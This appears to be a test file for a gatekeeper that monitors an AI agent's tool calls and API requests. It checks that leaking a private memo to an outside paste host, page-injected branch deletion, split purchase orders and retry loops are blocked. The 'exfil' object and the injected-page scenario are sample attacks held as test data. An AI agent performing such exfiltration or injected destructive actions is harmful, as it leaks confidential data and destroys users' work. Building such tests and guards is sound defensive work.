/**
 * Session-aware policies end to end, on the real surfaces with the standard library: an OpenAI SDK client through
 * /v1/chat/completions (tool calls proposed by a scripted model, results coming back as tool messages) and plain
 * HTTP through the API proxy. Private read then external post → escalated naming the read; the same post without
 * the read → allowed; split orders caught; untrusted page content driving a destructive tool → escalated.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { stringify } from 'yaml';
import OpenAI from 'openai';
import { readDecisions } from '../src/replay/ledger-reader.js';
import { KEYS, STDLIB, startGatekeeper, startUpstream, type Fixture } from './core/fixture.js';
import { ScriptedUpstream, chatCompletion } from './support/scripted-upstream.js';
import { MEMO, PAGE, SESSION_SETTINGS } from './support/session-settings.js';

const TOOLS = ['read_document', 'fetch_page', 'http_post', 'delete_branch'].map((name) => ({ type: 'function' as const, function: { name, parameters: { type: 'object' } } }));

describe('session-aware policies on the real surfaces', () => {
  const model = new ScriptedUpstream();
  let apis: Awaited<ReturnType<typeof startUpstream>>;
  let fx: Fixture;
  before(async () => {
    apis = await startUpstream((c) => (c.url.startsWith('/docs/') ? { json: { id: 7, body: MEMO } } : c.url.endsWith('/broken') ? { status: 500, json: { error: 'down' } } : { json: { ok: true } }));
    fx = await startGatekeeper({
      settings: SESSION_SETTINGS,
      config: {
        llm: { upstreams: [{ name: 'openai', base_url: `${await model.start()}/v1`, api_key: { env: 'GK_TEST_OPENAI_KEY' }, models: ['gpt-*'] }] },
        apis: { docs: { base_url: `${apis.url}/docs` }, webhooks: { base_url: `${apis.url}/webhooks` }, erp: { base_url: `${apis.url}/erp` } },
        sessions: { store: { sqlite: './sessions.db' } },
      },
      build: { env: { ...process.env, GK_TEST_OPENAI_KEY: 'sk-upstream' } },
    });
  });
  after(async () => {
    await fx.close();
    await model.stop();
    await apis.close();
  });

  const client = (session: string) => new OpenAI({ baseURL: `${fx.url}/v1`, apiKey: KEYS.buyer, maxRetries: 0, defaultHeaders: { 'OAGF-Session': session } });

  /** The model proposes `name(args)`; what the agent receives. */
  async function propose(session: string, messages: OpenAI.ChatCompletionMessageParam[], name: string, args: unknown, id: string) {
    model.enqueue({ json: chatCompletion({ toolCalls: [{ id, name, arguments: JSON.stringify(args) }] }) });
    const res = await client(session).chat.completions.create({ model: 'gpt-test', messages, tools: TOOLS });
    return res.choices[0]!.message;
  }

  const toolTurn = (id: string, name: string, args: unknown, result: string): OpenAI.ChatCompletionMessageParam[] => [
    { role: 'assistant', content: null, tool_calls: [{ id, type: 'function', function: { name, arguments: JSON.stringify(args) } }] },
    { role: 'tool', tool_call_id: id, content: result },
  ];

  const exfil = { url: 'https://paste.example/new', body: `Notes for the press: ${MEMO.slice(0, 80)}` };

  test('OpenAI: private document read, then a post of it outside → escalated, the reason naming the read and the argument', async () => {
    const ask: OpenAI.ChatCompletionMessageParam[] = [{ role: 'user', content: 'Summarise memo 7 and publish the summary' }];
    const read = await propose('s-exfil', ask, 'read_document', { id: 'memo-7' }, 'call_read');
    assert.equal(read.tool_calls?.[0]?.function.name, 'read_document', 'the read is released');
    const messages = [...ask, ...toolTurn('call_read', 'read_document', { id: 'memo-7' }, JSON.stringify({ body: MEMO }))];
    const posted = await propose('s-exfil', messages, 'http_post', exfil, 'call_post');
    assert.equal(posted.tool_calls, undefined, 'the post is not released');
    assert.match(posted.content!, /private data from board-documents \(read by tool read_document, decision [0-9a-f-]{36} at ledger index \d+\) is in this session, and tool http_post sends to "https:\/\/paste.example\/new", outside the allow-list: arguments.body carries 80 characters of it/);
  });

  test('OpenAI: the same post without the earlier read → allowed', async () => {
    const posted = await propose('s-clean', [{ role: 'user', content: 'Publish this' }], 'http_post', exfil, 'call_post');
    assert.equal(posted.tool_calls?.[0]?.function.name, 'http_post');
    assert.equal(posted.tool_calls?.[0]?.function.arguments, JSON.stringify(exfil));
  });

  test('OpenAI: untrusted page content making the model call a destructive tool → escalated', async () => {
    const ask: OpenAI.ChatCompletionMessageParam[] = [{ role: 'user', content: 'Read the release notes page' }];
    await propose('s-inject', ask, 'fetch_page', { url: 'https://blog.example/notes' }, 'call_page');
    const messages = [...ask, ...toolTurn('call_page', 'fetch_page', { url: 'https://blog.example/notes' }, PAGE)];
    const del = await propose('s-inject', messages, 'delete_branch', { branch: 'release-2026-q3-hotfix' }, 'call_del');
    assert.equal(del.tool_calls, undefined);
    assert.match(del.content!, /tool delete_branch is destructive and its arguments.branch carries 22 characters of untrusted content from fetch_page \(tool fetch_page, decision [0-9a-f-]{36}/);
    const clean = await propose('s-inject-clean', [{ role: 'user', content: 'delete the old branch' }], 'delete_branch', { branch: 'release-2026-q3-hotfix' }, 'call_del');
    assert.equal(clean.tool_calls?.[0]?.function.name, 'delete_branch', 'the same call without the page is allowed');
  });

  const api = (path: string, session: string, body?: unknown) =>
    fetch(`${fx.url}/apis/${path}`, {
      method: body === undefined ? 'GET' : 'POST',
      headers: { authorization: `Bearer ${KEYS.buyer}`, 'oagf-session': session, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });

  test('API proxy: the response of a labelled read is seen on its way; posting its text to a webhook → escalated', async () => {
    const read = await api('docs/documents/7', 's-api');
    assert.equal(read.status, 200);
    assert.deepEqual(await read.json(), { id: 7, body: MEMO }, 'the agent gets the response unchanged');
    const before = apis.received.length;
    const post = await api('webhooks/hooks/1', 's-api', { text: MEMO });
    const body = (await post.json()) as { error: { message: string } };
    assert.notEqual(post.status, 200);
    assert.match(JSON.stringify(body), /private data from docs GET \/documents\/7 \(read by GET docs \/documents\/7, decision [0-9a-f-]{36} at ledger index \d+\).*body.text carries \d+ characters of it/);
    assert.equal(apis.received.length, before, 'nothing reached the webhook');
    const clean = await api('webhooks/hooks/1', 's-api-clean', { text: MEMO });
    assert.equal(clean.status, 200, 'the same post in a session without the read goes through');
  });

  test('API proxy: split orders — two orders under the limit whose sum is over it → the second escalated', async () => {
    const first = await api('erp/orders', 's-orders', { sku: 'STEEL-7', total: 900_000, currency: 'USD' });
    assert.equal(first.status, 200);
    const second = await api('erp/orders', 's-orders', { sku: 'STEEL-7', total: 900_000, currency: 'USD' });
    assert.notEqual(second.status, 200);
    assert.match(await second.text(), /split orders: USD 1800000 within 1h on API erp \(1 earlier of this session and this one\) is above the 1000000 limit/);
    const alone = await api('erp/orders', 's-orders-2', { sku: 'STEEL-7', total: 900_000, currency: 'USD' });
    assert.equal(alone.status, 200, 'one order alone in its session is allowed');
  });

  test('API proxy: the same call failing three times (upstream 500) → the fourth is denied without reaching the API', async () => {
    for (let i = 0; i < 3; i++) assert.equal((await api('webhooks/hooks/broken', 's-loop', { text: 'ping' })).status, 500);
    const before = apis.received.length;
    const fourth = await api('webhooks/hooks/broken', 's-loop', { text: 'ping' });
    assert.equal(fourth.status, 403);
    assert.match(await fourth.text(), /the same POST \/hooks\/broken on API webhooks already failed 3 times in this session \(last: decision [0-9a-f-]{36} at ledger index \d+\)/);
    assert.equal(apis.received.length, before);
    assert.equal((await api('webhooks/hooks/broken', 's-loop', { text: 'another payload' })).status, 500, 'another call is tried');
  });

  test('gatekeeper replay --session re-decides the session on its recorded history: without the flow rules, the escalated post is allowed', async () => {
    // The candidate: the same library and agent, without labels, egress, destructive tools or order windows.
    const { labels: _l, egress: _e, destructive_tools: _d, limits, ...rest } = SESSION_SETTINGS.config.agents.buyer;
    const candidate = join(fx.dir, 'candidate');
    mkdirSync(candidate);
    const settings = { config: { ...SESSION_SETTINGS.config, agents: { buyer: { ...rest, limits: limits.map(({ window: _w, ...l }) => l) } } } };
    writeFileSync(join(candidate, 'data.yaml'), stringify(settings));
    const cli = fileURLToPath(new URL('../src/cli.ts', import.meta.url));
    const run = (...args: string[]) => promisify(execFile)(process.execPath, ['--import', 'tsx', '--conditions=development', cli, 'replay', '-l', join(fx.dir, 'ledger.db'), '-p', STDLIB, candidate, ...args]);
    const { stdout } = await run('--session', 's-exfil', '--json');
    const report = JSON.parse(stdout) as import('../src/replay/replay.js').ReplayReport;
    const steps = report.session!.steps.map((s) => [s.action.kind, s.action.target.tool ?? '', s.before.outcome, s.after.outcome, s.changed]);
    assert.deepEqual(steps, [
      ['llm.request', '', 'allow', 'allow', false],
      ['llm.tool_call', 'read_document', 'allow', 'allow', false],
      ['llm.request', '', 'allow', 'allow', false],
      ['llm.tool_call', 'http_post', 'escalate', 'allow', true],
    ]);
    const post = report.session!.steps[3]!;
    assert.deepEqual(post.labels, [`private from #${report.session!.steps[1]!.index}`], 'replayed on the recorded history: the read is in scope');
    assert.match(post.flows[0]!, /^arguments\.body ← #\d+ \(private, 80 chars\)$/);
    assert.equal(report.replayed, 4, 'only the session is replayed');
    // The ledger keeps the history by reference: the post's payload holds only the forms no earlier payload held.
    const recorded = [...readDecisions(join(fx.dir, 'ledger.db'))].find((d) => d.index === post.index)!.input as { session: { actions?: unknown; history: { refs: string[]; added: object } } };
    assert.equal(recorded.session.actions, undefined);
    assert.equal(recorded.session.history.refs.length, 1, 'the read (model requests are not kept)');
    assert.deepEqual(recorded.session.history.added, {}, 'the read, fingerprinted, is in the payload of the request that carried its result');
    const text = (await run('--session', 's-exfil')).stdout;
    assert.match(text, /session s-exfil \(4 decisions, \* = changed\):/);
    assert.match(text, /\* #\d+ buyer llm.tool_call \{"tool":"http_post","model":"gpt-test"\}: escalate → allow \[labels: private from #\d+ \| flows: arguments.body ← #\d+ \(private, 80 chars\)\]\n {4}was: private data from board-documents/);
    // Under the recording policy itself nothing changes: the decisions are reproduced from the same history.
    const same = JSON.parse((await promisify(execFile)(process.execPath, ['--import', 'tsx', '--conditions=development', cli, 'replay', '-l', join(fx.dir, 'ledger.db'), '-p', STDLIB, fx.policyDir, '--json'])).stdout) as { changed: number; replayed: number };
    assert.equal(same.changed, 0);
    assert.ok(same.replayed >= 15);
  });
});
